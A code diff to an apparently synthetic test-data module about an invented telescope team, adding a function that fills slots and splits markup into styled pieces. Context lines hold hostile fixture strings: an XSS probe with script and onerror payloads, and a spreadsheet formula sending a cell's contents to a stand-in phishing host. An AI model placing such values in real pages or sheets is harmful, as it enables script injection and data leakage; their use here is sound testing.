@@ -1,10 +1,17 @@
 """The words of the sandbox: an invented team building a small telescope, and what its members say.
 
 Everybody here is made up. Lines use a little markup (``**bold**``, `` `code` ``, ``[label](url)``) and slots
-(``{n}``, ``{part}``, ``{at}``: somebody is mentioned), which `writing` turns into plain records.
+(``{n}``, ``{part}``, ``{at}``: somebody is mentioned), which `spoken` fills and takes apart.
 """
 
 from __future__ import annotations
+
+import re
+from collections.abc import Iterator, Sequence
+from random import Random
+from typing import Literal
+
+Style = Literal["plain", "bold", "code", "link", "mention"]
 
 # nick, name, cluster of the account (ids differ in length), e-mail ("" is what services sometimes say)
 TEAM = (
@@ -215,3 +222,34 @@ HOSTILE = "<script>alert('not today')</script> <img src=x onerror=alert(1)> <!--
 FORMULA = '=HYPERLINK("https://phish.example/?" & A1, "total")'
 MANY_LINES = "Packing list:\n- telescope\n- tent\n\n\tspare batteries\n- tea\u00a0(two kinds)\u200b"
 EMOJI = "🚀🔭✨👩🏽‍🚀🇳🇴"
+
+_MARKUP = re.compile(r"\*\*(.+?)\*\*|`(.+?)`|\[(.+?)\]\((.+?)\)|<@(.+?)>")
+_DAYS = ("Monday", "Tuesday", "Wednesday", "Thursday", "Friday")
+
+
+def spoken(line: str, random: Random, nicks: Sequence[str]) -> Iterator[tuple[Style, str, str]]:
+    """Yield the pieces of `line`, its slots filled at random: style, text, and the address of a link.
+
+    Styles are plain, bold, code, link and mention; of a mention the text is one of `nicks`.
+    """
+    n = random.randrange(11, 90)
+    values = {
+        "n": n, "n10": n // 10, "big": n * 37, "tenth": n / 10, "pct": random.randrange(3, 60),
+        "part": random.choice(PARTS), "day": random.choice(_DAYS), "nick": random.choice(nicks),
+        "at": f"<@{random.choice(nicks)}>",
+        "site": random.choice(SITES).format(n=n), "part_code": random.choice(("gps", "imu", "usb")),
+    }  # fmt: skip
+    filled, at = line.format(**values), 0
+    for match in _MARKUP.finditer(filled):
+        if match.start() > at:
+            yield "plain", filled[at : match.start()], ""
+        bold, code, label, url, nick = match.groups()
+        if nick:
+            yield "mention", nick, ""
+        elif url:
+            yield "link", label, url
+        else:
+            yield ("bold", bold, "") if bold else ("code", code, "")
+        at = match.end()
+    if at < len(filled):
+        yield "plain", filled[at:], ""
